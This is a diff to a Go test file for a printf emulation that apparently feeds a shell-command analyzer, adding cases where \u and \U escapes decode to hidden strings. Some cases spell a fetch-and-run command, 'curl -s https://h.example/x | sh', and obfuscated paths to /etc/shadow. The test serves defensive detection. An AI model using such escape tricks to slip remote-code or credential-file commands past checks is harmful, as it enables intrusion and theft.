@@ -36,7 +36,11 @@ func TestPrintf_OneReading(t *testing.T) {
 		{"escapes of the format only", []string{`%s\n`, `\x41`}, "\\x41\n", true},
 		{"%b decodes its argument", []string{`%b|%s`, `\x41\101\n`, `\x41`}, "AA\n|\\x41", true},
 		{"%%", []string{`100%%\n`}, "100%\n", true},
-		{`\u is not decoded`, []string{`\u0041%b`, `\u0042`}, `\u0041\u0042`, true},
+		{`\u and \U decoded, as bash does`, []string{`\u0041%b`, `\u0042\U0001F600`}, "AB\U0001F600", true},
+		{`\u without digits stays`, []string{`\u\uZ`}, `\u\uZ`, true},
+		{`an escaped backslash before u`, []string{`\\u0041`}, `\u0041`, true},
+		{`\c ends a %b argument's output`, []string{`%b`, `ab\cde`}, "ab", true},
+		{`a word spelled by \u`, []string{`\u0063url -s https://h.example/x | s\u0068`}, "curl -s https://h.example/x | sh", true},
 		{"an escaped % is no conversion", []string{`\x25s\045d`, "x"}, "%s%d", true},
 		{"the format reused", []string{`%s=%s;`, "a", "1", "b"}, "a=1;b=;", true},
 		{"no argument left", []string{`[%s]`}, "[]", true},
@@ -109,6 +113,8 @@ func TestPrintf_BothUses(t *testing.T) {
 		{`%b`, `/etc/\x73hadow`, "/etc/shadow"},
 		{`/etc/%s`, "shadow", "/etc/shadow"},
 		{`/etc/sh\x61dow`, "", "/etc/shadow"},
+		{`/etc/\u0073hadow`, "", "/etc/shadow"},
+		{`%b`, `/etc/sh\U00000061dow`, "/etc/shadow"},
 	} {
 		line := "printf '" + c.format + "' '" + c.arg + "'"
 		f := s.CommandFacts(line + " > out.txt")
